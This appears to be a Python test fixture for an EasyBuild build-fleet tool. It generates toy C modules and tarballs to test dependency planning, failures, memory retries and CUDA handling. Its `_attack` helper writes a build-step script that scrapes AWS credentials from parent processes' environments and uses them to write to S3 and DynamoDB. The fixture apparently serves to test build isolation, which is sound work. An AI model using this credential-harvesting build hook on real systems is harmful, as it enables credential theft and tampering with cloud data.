"""Tiny easyconfigs EasyBuild builds in seconds: each module is a C library
`lib<name>.a` with `<name>.h` and a program `<name>` that calls its own
function, which calls its dependencies' (found only through their loaded
modules' `$EBROOT<NAME>`). SYSTEM toolchain, `MakeCp`, sources as plain tar
files in the bucket's `sources/`, as a real stack keeps them."""

import io
import json
import tarfile


def _tar(nv, files, executables=()):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as t:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{nv}/{name}")
            mode = 0o755 if name in executables else 0o644
            info.size, info.mode, info.mtime = len(data), mode, 1_700_000_000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class Module:
    """`name/version` depending on `deps`; `compiles=False` makes it fail;
    `hungry` makes its build run out of memory with 4 or more make jobs;
    `resident_mib` makes its build hold that much memory in one process
    and keep one CPU busy for two seconds (a serial build); `tools` are
    scripts ({name: text}) installed beside its program; `device_code`
    embeds `fake-cuda-arch=<sm>` for each compute capability EasyBuild
    builds for (its `%(cuda_sm_space_sep)s`), as a stand-in for CUDA device
    code; `attack` makes its build a hostile one: it looks for the AWS
    credentials of the node it runs on (in its own environment and in
    every process's above it: root can read them all, the build user only
    its own) and writes each of `attack`'s targets with them —
    ("s3", key) an object of the bucket, ("dynamodb", item) an item of the
    table — then fails, printing what each write was answered."""

    def __init__(self, name, deps=(), compiles=True, hungry=False, version="1.0", resident_mib=0,
                 tools=None, device_code=False, attack=()):
        self.name, self.deps, self.compiles, self.hungry = name, list(deps), compiles, hungry
        self.version, self.resident_mib = version, resident_mib
        self.tools, self.device_code = dict(tools or {}), device_code
        self.attack = list(attack)

    @property
    def module(self):
        return f"{self.name}/{self.version}"

    @property
    def nv(self):
        return f"{self.name}-{self.version}"

    @property
    def easyconfig_key(self):
        return f"easyconfigs/{self.name[0].lower()}/{self.name}/{self.nv}.eb"

    @property
    def source_key(self):
        return f"sources/{self.name[0].lower()}/{self.name}/{self.nv}.tar"

    def closure(self):
        """Every module this one uses, directly or not, users first."""
        out = []
        for d in self.deps:
            for m in [d] + d.closure():
                if m in out:
                    out.remove(m)
                out.append(m)
        return out

    def easyconfig(self):
        deps = "".join(f"('{d.name}', '{d.version}'), " for d in self.deps)
        return (
            "easyblock = 'MakeCp'\n"
            f"name = '{self.name}'\n"
            f"version = '{self.version}'\n"
            f"homepage = 'https://example.org/{self.name}'\n"
            f'description = "ebfleet end-to-end fixture {self.name}"\n'
            "toolchain = SYSTEM\n"
            f"sources = ['{self.nv}.tar']\n"
            + (f"dependencies = [{deps}]\n" if self.deps else "")
            + ("buildopts = 'CUDA_SM=\"%(cuda_sm_space_sep)s\"'\n" if self.device_code else "")
            + f"files_to_copy = [({[self.name] + sorted(self.tools)!r}, 'bin'), (['lib{self.name}.a'], 'lib'), (['{self.name}.h'], 'include')]\n"
            f"sanity_check_paths = {{'files': ['bin/{self.name}', 'lib/lib{self.name}.a', 'include/{self.name}.h'], 'dirs': []}}\n"
            f"sanity_check_commands = ['{self.name}']\n"
        )

    def source(self):
        n = self.name
        calls = "".join(f"    {d.name}_hello();\n" for d in self.deps)
        includes = "".join(f'#include "{d.name}.h"\n' for d in self.deps)
        body = f'    puts("{n} {self.version}");\n{calls}' if self.compiles else "    this is not C;\n"
        # One string per compute capability, in the object main links.
        device = f"const char *{n}_device_code[] = {{DEVICE_CODE 0}};\n" if self.device_code else ""
        flags_dc = " -DDEVICE_CODE=\"$(foreach s,$(CUDA_SM),\\\"fake-cuda-arch=$(s)\\\",)\"" if self.device_code else ""
        flags = "".join(f" -I$(EBROOT{d.name.upper()})/include" for d in self.deps)
        # Static libraries: every module below, each before what it uses.
        libs = "".join(f" -L$(EBROOT{d.name.upper()})/lib -l{d.name}" for d in self.closure())
        return _tar(
            self.nv,
            {
                f"{n}.h": f"void {n}_hello(void);\n",
                f"{n}.c": f'#include <stdio.h>\n#include "{n}.h"\n{includes}{device}void {n}_hello(void) {{\n{body}}}\n',
                "main.c": f'#include "{n}.h"\nint main(void) {{ {n}_hello(); return 0; }}\n',
                "Makefile": (
                    "all:\n"
                    + (
                        '\t@case "$(MAKEFLAGS)" in *-j[4-9]*) '
                        'echo "cc1: out of memory allocating 65536 bytes after a total of 1 bytes" >&2; exit 1;; esac\n'
                        if self.hungry
                        else ""
                    )
                    + (
                        "\tpython3 -c 'import time; "
                        f"b = bytearray({self.resident_mib} << 20); b[::4096] = b\"x\" * (len(b) // 4096); "
                        "end = time.time() + 2; [0 for _ in iter(lambda: time.time() < end, False)]'\n"
                        if self.resident_mib
                        else ""
                    )
                    + ("\tsh ./attack.sh\n" if self.attack else "")
                    + f"\t$(CC) -O2{flags}{flags_dc} -c {n}.c\n"
                    f"\tar rcs lib{n}.a {n}.o\n"
                    f"\t$(CC) -O2 -o {n} main.c lib{n}.a{libs}\n"
                ),
                **self.tools,
                **({"attack.sh": _attack(self.attack)} if self.attack else {}),
            },
            executables=self.tools,
        )


def _attack(targets):
    """A build step that writes each target with its node's credentials."""
    writes = []
    for kind, target in targets:
        if kind == "s3":
            writes.append(f'try "PUT s3 {target}" --aws-sigv4 aws:amz:us-east-1:s3 -X PUT --data-binary hostile '
                          f'"$AWS_ENDPOINT_URL/$EBFLEET_BUCKET/{target}"')
        else:
            item = json.dumps({k: {"S": v} for k, v in target.items()} | {"status": {"S": "built"}})
            writes.append(f"item='{item}'")
            writes.append(f"try \"PutItem {target['sk']}\" --aws-sigv4 aws:amz:us-east-1:dynamodb "
                          "-H 'Content-Type: application/x-amz-json-1.0' -H 'X-Amz-Target: DynamoDB_20120810.PutItem' "
                          '--data "{\\"TableName\\":\\"$EBFLEET_TABLE\\",\\"Item\\":$item}" "$AWS_ENDPOINT_URL/"')
    return (
        "#!/bin/sh\n"
        "echo \"attack: running as $(id -un)\" >&2\n"
        "# Find the node's credentials: in the environment of this process or\n"
        "# of one above it that holds them (on EC2, IMDS too).\n"
        "pid=$$\n"
        "while [ \"$pid\" -gt 1 ]; do\n"
        "  if tr '\\0' '\\n' < /proc/$pid/environ | grep -q '^AWS_ENDPOINT_URL='; then\n"
        "    eval \"$(tr '\\0' '\\n' < /proc/$pid/environ | grep -E '^(AWS_ENDPOINT_URL|AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|EBFLEET_BUCKET|EBFLEET_TABLE)=' | sed \"s/=\\(.*\\)/='\\1'/; s/^/export /\")\"\n"
        "    break\n"
        "  fi\n"
        "  pid=$(awk '/^PPid:/ {print $2}' /proc/$pid/status)\n"
        "done\n"
        "[ -n \"$AWS_ENDPOINT_URL\" ] || { echo 'attack: no credentials found' >&2; exit 1; }\n"
        "try() {\n"
        "  what=$1; shift\n"
        "  code=$(curl -s -o /dev/null -w '%{http_code}' --user \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" \"$@\")\n"
        "  echo \"attack: $what: HTTP $code\" >&2\n"
        "}\n"
        + "".join(f"{w}\n" for w in writes)
        + "echo 'attack: done; this build fails' >&2\n"
        "exit 1\n"
    )


# The stack the scenarios grow, in the order they upload it.
ALPHA = Module("alpha")
BETA = Module("beta")
GAMMA = Module("gamma", [ALPHA])
DELTA = Module("delta", [GAMMA, BETA])
STACK = [ALPHA, BETA, GAMMA, DELTA]
# Uploaded later: the trigger must plan only it.
EPSILON = Module("epsilon", [ALPHA])
# A failing build, its dependent, and an independent module.
BROKEN = Module("broken", compiles=False)
DEPENDENT = Module("dependent", [BROKEN])
SOLO = Module("solo")
FAILING = [BROKEN, DEPENDENT, SOLO]
# Six independent modules and one using them all: work for several nodes.
FAN_OUT = [Module(f"fan{c}") for c in "abcdef"]
FAN = FAN_OUT + [Module("fantop", FAN_OUT)]
# Runs out of memory with 4 make jobs, builds with 2 (retry by error class).
HUNGRY = Module("hungry", hungry=True)
# Built beside a held failure (failure memory).
THETA = Module("theta")
# For the operator's commands: a run asked for zeta only leaves eta alone.
ZETA = Module("zeta", [ALPHA])
ETA = Module("eta")
# A serial build holding 300 MiB, and its next version (sizing from records).
SERIAL = Module("serial", resident_mib=300)
SERIAL_NEXT = Module("serial", resident_mib=300, version="1.1")
# A CUDA overlay's work: a stand-in for the CUDA toolkit (the planner
# knows CUDA by its name) and an application of it that also uses alpha,
# which the overlay takes from its base platform.
# EasyBuild checks a module that depends on CUDA with CUDA's cuobjdump;
# this one reports the fake device code strings a binary holds.
FAKE_CUOBJDUMP = """#!/bin/sh
archs=$(grep -ao 'fake-cuda-arch=sm_[0-9]*' "$1" | sed 's/.*=sm_//' | sort -u)
if [ -z "$archs" ]; then
    echo "cuobjdump info    : File '$1' does not contain device code"
    exit 255
fi
for kind in elf ptx; do
    for a in $archs; do
        printf 'Fatbin %s code:\\n================\\narch = sm_%s\\ncode version = [1,7]\\nhost = linux\\ncompile_size = 64bit\\n\\n' "$kind" "$a"
    done
done
"""
FAKE_CUDA = Module("CUDA", version="12.4.0", tools={"cuobjdump": FAKE_CUOBJDUMP})
CUDA_APP = Module("cudaapp", [FAKE_CUDA, ALPHA], device_code=True)
CUDA_WORK = [FAKE_CUDA, CUDA_APP]
# A CUDA application whose base dependency fails to build on the base.
CUDA_ON_BROKEN = Module("cudabroken", [FAKE_CUDA, BROKEN])
# A run stopped mid-build (the sweep releases it).
HALTA = Module("halta")
HALTED = [HALTA, Module("haltb", [HALTA])]
